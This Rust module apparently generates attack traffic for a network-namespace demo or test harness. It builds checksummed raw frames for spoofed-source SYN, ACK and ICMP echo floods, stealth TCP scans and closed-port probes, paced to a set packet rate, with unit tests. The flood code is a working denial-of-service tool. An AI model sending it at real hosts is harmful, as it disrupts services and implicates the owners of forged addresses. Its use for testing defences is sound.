//! Attacks on the wire: floods and scans, paced, counted, sent as whole frames through a packet socket.
//!
//! The frames are well formed down to their checksums, so the kernel treats them as it would an attacker's. Each pattern
//! exists over IPv4 and IPv6; the victim's address says which.

use std::{
    fmt, io,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    os::fd::AsFd,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use nix::net::if_::if_nametoindex;

use crate::{
    frame::{ACK, FIN, ICMP, ICMPV6, IPV4, IPV6, PSH, SYN, TCP, UDP, URG},
    netns::Namespace,
    sys::{BATCH, packet_socket, send_frames},
};

const ETHERNET_BYTES: usize = 14;
const IPV4_BYTES: usize = 20;
const IPV6_BYTES: usize = 40;
/// TCP, and a maximum-segment-size option as every real SYN has one.
const SYN_BYTES: usize = 24;
const TCP_BYTES: usize = 20;
/// A UDP datagram with as much as a small query.
const UDP_BYTES: usize = 8 + 32;
/// An echo request with what ping(8) sends.
const ECHO_BYTES: usize = 8 + 56;
const LONGEST: usize = ETHERNET_BYTES + IPV6_BYTES + ECHO_BYTES;

/// Ports that nobody in the demo listens at: those that are tried first everywhere.
const CLOSED_PORTS: [u16; 16] =
    [21, 22, 23, 25, 53, 110, 123, 143, 161, 445, 1433, 1900, 3306, 3389, 5432, 6379];

/// A frame and its length.
#[derive(Clone, Copy)]
struct Frame {
    bytes: [u8; LONGEST],
    length: usize,
}

impl AsRef<[u8]> for Frame {
    fn as_ref(&self) -> &[u8] {
        self.bytes.get(..self.length).unwrap_or_default()
    }
}

/// After a pause of the generator longer than this it does not catch up: a burst would be another attack.
const LONGEST_DEBT: Duration = Duration::from_millis(50);

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Pattern {
    /// SYNs to one port, each from another, forged source.
    ForgedSyn,
    /// SYNs to one port from this many sources, `198.51.100.1` onwards, in turn.
    FixedSyn {
        /// 1 to 254.
        sources: u8,
    },
    /// XMAS, NULL and SYN+FIN segments in turn, to random ports, from 16 sources, `203.0.113.1` onwards.
    Scan,
    /// ACK segments to one port, each from another, forged source.
    ForgedAck,
    /// SYNs and UDP datagrams in turn, to 16 ports at which nobody listens, each from another, forged source.
    Closed,
    /// Echo requests, each from another, forged source.
    ForgedEcho,
}

/// An attack, ready to be started.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What is sent.
    pub pattern: Pattern,
    /// Packets a second.
    pub rate: u32,
    /// Source and destination of the Ethernet header.
    pub macs: ([u8; 6], [u8; 6]),
    /// The victim.
    pub victim: SocketAddr,
    /// Seed of ports, sequence numbers and forged sources.
    pub seed: u64,
}

/// An attack that runs, and ends when it is dropped.
pub struct Running {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<()>>>,
}

impl fmt::Debug for Running {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.debug_struct("Running").field("sent", &self.sent()).finish_non_exhaustive()
    }
}

impl Flood {
    /// Starts the attack out of `interface` in `namespace`.
    ///
    /// # Errors
    /// When the thread cannot be started; what goes wrong on it, [`Running::stop`] says.
    pub fn start(self, namespace: &Namespace, interface: &str) -> Result<Running> {
        let (stop, sent) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stops, counts, interface) = (Arc::clone(&stop), Arc::clone(&sent), interface.to_owned());
        let thread = namespace.spawn("flood", move || self.send(&interface, &stops, &counts))?;
        Ok(Running { stop, sent, thread: Some(thread) })
    }

    fn send(self, interface: &str, stop: &AtomicBool, sent: &AtomicU64) -> Result<()> {
        let index = if_nametoindex(interface).with_context(|| format!("looking for {interface}"))?;
        let socket = packet_socket(index).context("opening a packet socket")?;
        let mut random = Random(self.seed);
        let mut frames = Vec::with_capacity(BATCH);
        let mut number = 0;
        let mut pace = Pace::new(self.rate);
        while !stop.load(Ordering::Relaxed) {
            let due = pace.due(Instant::now());
            if due == 0 {
                // Pauses of one length would beat with the kernel's tick, by which it samples processor time.
                thread::sleep(Duration::from_micros(200 + random.below(1000)));
                continue;
            }
            frames.clear();
            for _ in 0..due.min(BATCH as u64) {
                frames.push(self.frame(number, &mut random));
                number += 1;
            }
            match send_frames(socket.as_fd(), &frames) {
                Ok(count) => {
                    let count = count as u64;
                    pace.sent(count);
                    sent.fetch_add(count, Ordering::Relaxed);
                }
                Err(error) if is_passing(&error) => thread::sleep(Duration::from_micros(100)),
                Err(error) => return Err(error).context("sending frames"),
            }
        }
        Ok(())
    }

    fn frame(&self, number: u64, random: &mut Random) -> Frame {
        let port = self.victim.port();
        let (source, payload) = match self.pattern {
            Pattern::ForgedSyn => (self.forged_source(random), Payload::tcp(SYN, port, random)),
            Pattern::FixedSyn { sources } => {
                (self.numbered([198, 51, 100], number, sources.into()), Payload::tcp(SYN, port, random))
            }
            Pattern::Scan => {
                let flags = match number % 3 {
                    0 => FIN | PSH | URG,
                    1 => 0,
                    _ => SYN | FIN,
                };
                let port = u16::try_from(1 + random.below(65_535)).unwrap_or(1);
                (self.numbered([203, 0, 113], number / 3, 16), Payload::tcp(flags, port, random))
            }
            Pattern::ForgedAck => (self.forged_source(random), Payload::tcp(ACK, port, random)),
            Pattern::Closed => {
                let place = usize::try_from(random.below(16)).unwrap_or(0);
                let port = CLOSED_PORTS.get(place).copied().unwrap_or(21);
                let source = self.forged_source(random);
                if number.is_multiple_of(2) {
                    (source, Payload::tcp(SYN, port, random))
                } else {
                    (source, Payload::udp(port, random))
                }
            }
            Pattern::ForgedEcho => (self.forged_source(random), Payload::echo(self.victim.is_ipv6(), random)),
        };
        payload.framed(self.macs, source, self.victim.ip(), random)
    }

    fn forged_source(&self, random: &mut Random) -> IpAddr {
        match self.victim.ip() {
            IpAddr::V4(_) => forged_v4(random).into(),
            IpAddr::V6(_) => forged_v6(random).into(),
        }
    }

    /// The source with this number of so many, counted from 1: `a.b.c.n`, or over IPv6 `2001:db8:a.b:c.n::1`, each in a
    /// /64 of its own.
    fn numbered(&self, [a, b, c]: [u8; 3], number: u64, of: u64) -> IpAddr {
        let n = u8::try_from(1 + number % of.max(1)).unwrap_or(1);
        match self.victim.ip() {
            IpAddr::V4(_) => Ipv4Addr::new(a, b, c, n).into(),
            IpAddr::V6(_) => {
                let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, n]));
                Ipv6Addr::new(0x2001, 0x0db8, high, low, 0, 0, 0, 1).into()
            }
        }
    }
}

impl Running {
    /// Packets sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Ends the attack and returns how many packets were sent.
    ///
    /// # Errors
    /// What stopped the generator early.
    pub fn stop(mut self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        match self.thread.take().map(JoinHandle::join) {
            Some(Ok(result)) => result.map(|()| self.sent()),
            Some(Err(_)) => bail!("the flood's thread panicked"),
            None => Ok(self.sent()),
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // Its result no longer matters to anyone: whoever wants it calls `stop`.
            let _ = thread.join();
        }
    }
}

/// Whether the interface was merely full.
fn is_passing(error: &io::Error) -> bool {
    matches!(error.raw_os_error(), Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR))
}

/// How many packets are due.
#[derive(Debug)]
struct Pace {
    rate: u32,
    begun: Instant,
    sent: u64,
}

impl Pace {
    fn new(rate: u32) -> Self {
        Self { rate, begun: Instant::now(), sent: 0 }
    }

    fn due(&mut self, now: Instant) -> u64 {
        let owed = self.packets_in(now.duration_since(self.begun)).saturating_sub(self.sent);
        let most = self.packets_in(LONGEST_DEBT).max(1);
        if owed > most {
            self.sent += owed - most;
        }
        owed.min(most)
    }

    fn sent(&mut self, count: u64) {
        self.sent += count;
    }

    fn packets_in(&self, time: Duration) -> u64 {
        let packets = time.as_nanos() * u128::from(self.rate) / 1_000_000_000;
        u64::try_from(packets).unwrap_or(u64::MAX)
    }
}

/// `SplitMix64` (Steele, Lea and Flood, 2014): small, and good enough for ports and forged addresses.
#[derive(Debug)]
pub struct Random(pub u64);

impl Random {
    /// The next number, each of 32 bits equally likely.
    pub fn number(&mut self) -> u32 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) >> 32) as u32
    }

    /// A number below `bound`; its slight bias does not matter here.
    pub fn below(&mut self, bound: u32) -> u64 {
        (u64::from(self.number()) * u64::from(bound)) >> 32
    }
}

/// An address that could be anyone's: unicast, and none of the ranges that a host treats specially.
fn forged_v4(random: &mut Random) -> Ipv4Addr {
    loop {
        let address = Ipv4Addr::from_bits(random.number());
        let [first, ..] = address.octets();
        let is_special = address.is_private() || address.is_loopback() || address.is_link_local();
        if (1..224).contains(&first) && !is_special {
            return address;
        }
    }
}

/// The same of IPv6: global unicast is `2000::/3` (RFC 4291, section 2.4, and IANA's registry).
fn forged_v6(random: &mut Random) -> Ipv6Addr {
    let mut bits = 0;
    for _ in 0..4 {
        bits = bits << 32 | u128::from(random.number());
    }
    Ipv6Addr::from_bits(bits >> 3 | 1 << 125)
}

/// What stands behind the IP header.
struct Payload {
    protocol: u8,
    bytes: [u8; ECHO_BYTES],
    length: usize,
    /// Where the checksum stands.
    sum_at: usize,
    /// Whether the checksum covers the addresses.
    has_pseudo_header: bool,
}

impl Payload {
    fn tcp(flags: u8, port: u16, random: &mut Random) -> Self {
        let mut bytes = [0; ECHO_BYTES];
        put(&mut bytes, 0, &random_port(random).to_be_bytes());
        put(&mut bytes, 2, &port.to_be_bytes());
        put(&mut bytes, 4, &random.number().to_be_bytes());
        if flags & ACK != 0 {
            put(&mut bytes, 8, &random.number().to_be_bytes());
        }
        let length = if flags & ACK == 0 { SYN_BYTES } else { TCP_BYTES };
        let words = u8::try_from(length / 4).unwrap_or(5);
        // Words of header, flags, the largest unscaled window; then the option of 1 460 bytes a segment (RFC 9293, 3.2).
        put(&mut bytes, 12, &[words << 4, flags, 0xff, 0xff]);
        if length == SYN_BYTES {
            put(&mut bytes, 20, &[2, 4, 0x05, 0xb4]);
        }
        Self { protocol: TCP, bytes, length, sum_at: 16, has_pseudo_header: true }
    }

    fn udp(port: u16, random: &mut Random) -> Self {
        let mut bytes = [0; ECHO_BYTES];
        put(&mut bytes, 0, &random_port(random).to_be_bytes());
        put(&mut bytes, 2, &port.to_be_bytes());
        put(&mut bytes, 4, &u16::try_from(UDP_BYTES).unwrap_or(8).to_be_bytes());
        put(&mut bytes, 8, &random.number().to_be_bytes());
        Self { protocol: UDP, bytes, length: UDP_BYTES, sum_at: 6, has_pseudo_header: true }
    }

    /// An echo request: type 8 of ICMP (RFC 792), 128 of ICMPv6 (RFC 4443), whose checksum alone covers addresses.
    fn echo(is_v6: bool, random: &mut Random) -> Self {
        let mut bytes = [0; ECHO_BYTES];
        let (protocol, kind) = if is_v6 { (ICMPV6, 128) } else { (ICMP, 8) };
        put(&mut bytes, 0, &[kind]);
        put(&mut bytes, 4, &random.number().to_be_bytes());
        Self { protocol, bytes, length: ECHO_BYTES, sum_at: 2, has_pseudo_header: is_v6 }
    }

    fn framed(
        mut self,
        macs: ([u8; 6], [u8; 6]),
        source: IpAddr,
        victim: IpAddr,
        random: &mut Random,
    ) -> Frame {
        let length = u16::try_from(self.length).unwrap_or(0);
        // Addresses, length and protocol: the sum of both families' pseudo-headers, which differ in padding alone.
        let mut pseudo = [0; 36];
        let mut header = [0; IPV6_BYTES];
        let (kind, header_bytes) = match (source, victim) {
            (IpAddr::V4(source), IpAddr::V4(victim)) => {
                let [high, low] = (length + 20).to_be_bytes();
                put(&mut header, 0, &[0x45, 0, high, low]);
                put(&mut header, 4, &random.number().to_be_bytes()[..2]);
                put(&mut header, 8, &[64, self.protocol]);
                put(&mut header, 12, &source.octets());
                put(&mut header, 16, &victim.octets());
                let sum = checksum(&[header.get(..IPV4_BYTES).unwrap_or_default()]);
                put(&mut header, 10, &sum);
                put(&mut pseudo, 0, &source.octets());
                put(&mut pseudo, 4, &victim.octets());
                (IPV4, IPV4_BYTES)
            }
            (source, victim) => {
                let [high, low] = length.to_be_bytes();
                put(&mut header, 0, &[0x60, 0, 0, 0, high, low, self.protocol, 64]);
                put(&mut header, 8, &octets_v6(source));
                put(&mut header, 24, &octets_v6(victim));
                put(&mut pseudo, 0, &octets_v6(source));
                put(&mut pseudo, 16, &octets_v6(victim));
                (IPV6, IPV6_BYTES)
            }
        };
        let [high, low] = length.to_be_bytes();
        put(&mut pseudo, 32, &[high, low, 0, self.protocol]);
        let pseudo = if self.has_pseudo_header { &pseudo[..] } else { &[] };
        let mut sum = checksum(&[pseudo, self.bytes.get(..self.length).unwrap_or_default()]);
        if sum == [0, 0] && self.protocol == UDP {
            // Zero would say that there is no checksum (RFC 768).
            sum = [0xff, 0xff];
        }
        put(&mut self.bytes, self.sum_at, &sum);

        let mut frame = Frame { bytes: [0; LONGEST], length: ETHERNET_BYTES + header_bytes + self.length };
        put(&mut frame.bytes, 0, &macs.1);
        put(&mut frame.bytes, 6, &macs.0);
        put(&mut frame.bytes, 12, &kind.to_be_bytes());
        put(&mut frame.bytes, ETHERNET_BYTES, header.get(..header_bytes).unwrap_or_default());
        let payload = self.bytes.get(..self.length).unwrap_or_default();
        put(&mut frame.bytes, ETHERNET_BYTES + header_bytes, payload);
        frame
    }
}

fn octets_v6(address: IpAddr) -> [u8; 16] {
    match address {
        IpAddr::V4(address) => address.to_ipv6_mapped().octets(),
        IpAddr::V6(address) => address.octets(),
    }
}

fn random_port(random: &mut Random) -> u16 {
    u16::try_from(1024 + random.below(64_000)).unwrap_or(1024)
}

fn put(target: &mut [u8], at: usize, bytes: &[u8]) {
    if let Some(place) = target.get_mut(at..at + bytes.len()) {
        place.copy_from_slice(bytes);
    }
}

/// The Internet checksum (RFC 1071) over parts of even length.
pub fn checksum(parts: &[&[u8]]) -> [u8; 2] {
    let mut sum: u32 = 0;
    for part in parts {
        for pair in part.chunks_exact(2) {
            if let [high, low] = pair {
                sum += u32::from(u16::from_be_bytes([*high, *low]));
            }
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    const PATTERNS: [Pattern; 6] = [
        Pattern::ForgedSyn,
        Pattern::FixedSyn { sources: 64 },
        Pattern::Scan,
        Pattern::ForgedAck,
        Pattern::Closed,
        Pattern::ForgedEcho,
    ];

    fn flood(pattern: Pattern, victim: &str) -> Flood {
        let victim = victim.parse().unwrap();
        Flood { pattern, rate: 100_000, macs: ([2; 6], [4; 6]), victim, seed: 7 }
    }

    #[test]
    fn checksums_and_lengths_of_every_frame_come_out_even() {
        for pattern in PATTERNS {
            let mut random = Random(1);
            for number in 0..1000 {
                let frame = flood(pattern, "10.77.0.1:8080").frame(number, &mut random);
                let frame = frame.as_ref();
                assert_eq!(checksum(&[&frame[14..34]]), [0, 0]);
                assert_eq!(usize::from(u16::from_be_bytes([frame[16], frame[17]])), frame.len() - 14);
                let length = u16::try_from(frame.len() - 34).unwrap().to_be_bytes();
                let pseudo = [&frame[26..34], &[0, frame[23]], &length].concat();
                let pseudo = if frame[23] == ICMP { &[] } else { &pseudo[..] };
                assert_eq!(checksum(&[pseudo, &frame[34..]]), [0, 0], "{pattern:?}");

                let frame = flood(pattern, "[fd77::1]:8080").frame(number, &mut random);
                let frame = frame.as_ref();
                let length = [frame[18], frame[19]];
                assert_eq!(usize::from(u16::from_be_bytes(length)), frame.len() - 54);
                let pseudo = [&frame[22..54], &[0, 0], &length, &[0, 0, 0, frame[20]]].concat();
                assert_eq!(checksum(&[&pseudo, &frame[54..]]), [0, 0], "{pattern:?}");
            }
        }
    }

    #[test]
    fn closed_ports_get_syns_and_datagrams_in_turn() {
        let mut random = Random(1);
        for number in 0..100 {
            let frame = flood(Pattern::Closed, "10.77.0.1:8080").frame(number, &mut random);
            let frame = frame.as_ref();
            assert_eq!(frame[23], if number % 2 == 0 { TCP } else { UDP });
            assert!(CLOSED_PORTS.contains(&u16::from_be_bytes([frame[36], frame[37]])));
        }
    }

    #[test]
    fn fixed_sources_take_turns() {
        let mut random = Random(1);
        let mut seen = [0; 256];
        for number in 0..640 {
            let pattern = Pattern::FixedSyn { sources: 64 };
            let frame = flood(pattern, "10.77.0.1:8080").frame(number, &mut random);
            assert_eq!(frame.as_ref()[26..29], [198, 51, 100]);
            seen[usize::from(frame.as_ref()[29])] += 1;
        }
        assert!(seen[1..=64].iter().all(|count| *count == 10));
    }

    #[test]
    fn forged_sources_hardly_ever_repeat_and_are_never_special() {
        let mut random = Random(1);
        let sources: std::collections::BTreeSet<_> = (0..10_000).map(|_| forged_v4(&mut random)).collect();
        assert!(sources.len() > 9_980);
        assert!(!sources.iter().any(|source| source.is_multicast() || source.is_private()));
        let networks: std::collections::BTreeSet<_> =
            (0..10_000).map(|_| forged_v6(&mut random).to_bits() >> 64).collect();
        assert!(networks.len() > 9_990);
        assert!(networks.iter().all(|network| network >> 61 == 1));
    }

    #[test]
    fn a_pause_is_not_caught_up() {
        let mut pace = Pace::new(100_000);
        let begun = pace.begun;
        assert_eq!(pace.due(begun + Duration::from_millis(1)), 100);
        pace.sent(100);
        assert_eq!(pace.due(begun + Duration::from_millis(1)), 0);
        assert_eq!(pace.due(begun + Duration::from_secs(10)), 5_000);
        pace.sent(5_000);
        assert_eq!(pace.due(begun + Duration::from_secs(10)), 0);
    }
}
